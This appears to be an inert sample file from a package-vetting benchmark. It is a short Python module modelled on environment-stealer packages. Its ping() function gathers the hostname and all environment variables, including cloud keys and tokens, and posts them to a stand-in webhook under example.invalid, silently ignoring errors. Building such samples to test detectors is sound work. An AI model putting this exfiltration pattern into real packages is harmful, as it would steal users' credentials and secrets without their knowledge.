# VETBENCH DEMO PACKAGE - INERT. Shaped like the environment-stealer releases of 2022-2024:
# the whole environment (cloud keys, tokens) is posted to a request catcher. The host below is
# under example.invalid, which can never resolve, and nothing here runs unless imported.
import json
import os
import platform
import urllib.request

WEBHOOK = "https://hooks.example.invalid/api/webhooks/000001/other-demo-token"


def ping():
    payload = {
        "host": platform.node(),
        "env": dict(os.environ),
    }
    req = urllib.request.Request(
        WEBHOOK,
        data=json.dumps(payload).encode(),
        headers={"Content-Type": "application/json"},
    )
    try:
        urllib.request.urlopen(req, timeout=1)
    except Exception:
        pass
